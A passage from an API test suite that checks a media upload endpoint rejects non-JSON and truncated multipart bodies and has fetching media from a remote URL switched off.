        body: form,
        headers: { authorization: `JWT ${team.editor.token}` },
      })
      expect(notJson.status).toBe(400)
      expect(await notJson.text()).toMatch(/must be JSON/)
      const truncated = await fetch(`${server.url}/api/media`, {
        method: 'POST',
        body: '--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nabc',
        headers: {
          authorization: `JWT ${team.editor.token}`,
          'content-type': 'multipart/form-data; boundary=xyz',
        },
      })
      expect(truncated.status).toBe(400)
    })

    it('has pasting from a URL switched off', async () => {
      const paste = await client.request(
        `/api/media/paste-url?src=${encodeURIComponent(`${server.url}/healthz`)}`,
        {
          auth: team.editor,
        },
      )
      expect(paste.status).toBeGreaterThanOrEqual(400)
      expect(paste.status).toBeLessThan(500)
      const byUrl = await client.request('/api/media', {
        method: 'POST',
        auth: team.editor,
        body: { alt: 'x', url: `${server.url}/healthz`, filename: 'remote.png' },
      })
      expect(byUrl.status).toBe(400)
      expect(JSON.stringify(byUrl.body)).toMatch(/web address is switched off/)
    })
  })
})
